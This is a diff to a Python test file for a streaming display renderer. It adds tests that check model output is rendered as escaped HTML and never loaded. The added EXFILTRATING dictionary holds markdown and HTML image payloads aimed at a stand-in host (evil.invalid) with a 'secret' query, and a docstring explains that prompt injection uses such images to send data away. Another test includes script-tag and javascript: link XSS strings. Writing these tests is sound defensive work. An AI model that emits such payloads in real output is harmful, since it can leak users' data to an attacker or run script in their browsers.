@@ -36,7 +36,8 @@ def test_updates_are_coalesced_and_nothing_is_lost() -> None:
     texts = [b["text/plain"].rstrip("▌") for b in streaming]
     assert all(later.startswith(earlier) for earlier, later in itertools.pairwise(texts))
     final = sent[-1][0]
-    assert final["text/markdown"] == "".join(pieces) + "\n\n<sub>1000 tokens</sub>"
+    assert final["text/plain"] == "".join(pieces) + "\n\n1000 tokens"
+    assert final["text/html"] == f"<p>{''.join(pieces).strip()}</p>\n<p><sub>1000 tokens</sub></p>"
     assert [update for _, update in sent] == [False] + [True] * (len(sent) - 1)
     assert shown.updates == len(sent)
 
@@ -49,6 +50,36 @@ def test_not_live_shows_once_at_the_end() -> None:
     assert sent == []
     shown.finish("", markdown=False)
     assert sent == [{"text/plain": "abc"}]
+
+
+EXFILTRATING = {
+    "inline": "See ![x](http://evil.invalid/?q=secret) here.",
+    "reference": "See ![x][r] here.\n\n[r]: http://evil.invalid/?q=secret",
+    "raw HTML": 'See <img src="http://evil.invalid/?q=secret"> here.',
+}
+
+
+@pytest.mark.parametrize("text", EXFILTRATING.values(), ids=EXFILTRATING.keys())
+def test_the_final_rendering_fetches_nothing_but_shows_the_url(text: str) -> None:
+    """A model's image (a prompt injection's way to send data away) is shown as text, never loaded."""
+    sent: list[Bundle] = []
+    shown = StreamDisplay(lambda bundle, update: sent.append(bundle), live=False)
+    shown.append(text)
+    shown.finish("12 tokens")
+    [final] = sent
+    assert set(final) == {"text/plain", "text/html"}, "never text/markdown: a front end would load its images"
+    assert "<img" not in final["text/html"] and "![" not in final["text/html"]
+    assert "http://evil.invalid/?q=secret" in final["text/html"]
+
+
+def test_raw_html_and_script_links_stay_text() -> None:
+    sent: list[Bundle] = []
+    shown = StreamDisplay(lambda bundle, update: sent.append(bundle), live=False)
+    shown.append('<script>alert(1)</script> [go](javascript:alert(1)) <a href="x">a</a>')
+    shown.finish("<b>footer</b>")
+    html = sent[-1]["text/html"]
+    assert "<script" not in html and "<a " not in html and "<b>" not in html
+    assert "&lt;script&gt;" in html and "&lt;b&gt;footer&lt;/b&gt;" in html
 
 
 def test_status_table() -> None:
